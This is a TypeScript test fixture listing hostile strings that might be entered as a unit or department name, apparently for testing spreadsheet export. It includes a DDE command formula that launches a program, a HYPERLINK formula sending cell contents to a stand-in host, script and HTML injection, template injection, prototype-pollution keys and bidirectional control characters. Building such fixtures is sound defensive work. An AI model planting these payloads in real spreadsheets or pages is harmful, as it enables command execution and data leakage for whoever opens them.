// Texts that somebody may have typed, or put there on purpose, as the name of a unit, a reason or the name of the department.
const THING = 'https://elsewhere.invalid/';

/** Each by what it tries. */
export const TEXTS: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a formula that calls out': `=HYPERLINK("${THING}?"&A1,"点这里")`,
  'a command': "=cmd|' /C calc'!A0",
  'a plus': '+8613',
  'a minus': '-不合规',
  'an at': '@SUM(A1:A9)',
  'a tab before a formula': '\t=1+1',
  'a line end before a formula': '\n=1+1',
  'full-width signs': '＝1+1',
  quotation: '"甲",\'乙\'\n丙',
  'an apostrophe': "'机关",
  'an element': `<img src="${THING}x.png" onerror="window.ran=1">`,
  'a script': '</td></tr><script>window.ran=1</script>&lt;b&gt;&amp;',
  'the end of a CDATA section': ']]><x>',
  'an address that runs': 'javascript:window.ran=1',
  'a turned direction': '机关\u202E541.00\u2066',
  'marks of direction': '\u200F机\u061C关\u200E\u2069',
  'colours of a terminal': '机关\u001b[31m\u001b]0;x\u0007红',
  'control characters': '机\u0000\u0008关\u007f\u0085\u009b',
  'an escape of Excel': '_x000D_机关_x0041_',
  'half a character': '机关\uD83D',
  'no character': '机关\uFFFE\uFFFF',
  'characters of four bytes': '𠮷𡈽单位😀',
  'a template': '${window.ran=1}{{ran}}<%= ran %>',
  'the name of a member': '__proto__',
  'another member': 'constructor',
  'all that a cell takes': `长${'名'.repeat(32_765)}称`,
  'all that a cell takes, as a formula': `=${'1+'.repeat(16_383)}`,
};

/** As a workbook can hold it: what XML forbids cannot come in by a file. */
export const EMBEDDINGS = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
export const CONTROLS = /(?![\n])[\p{Cc}\p{Cs}\uFFFE\uFFFF]/u;
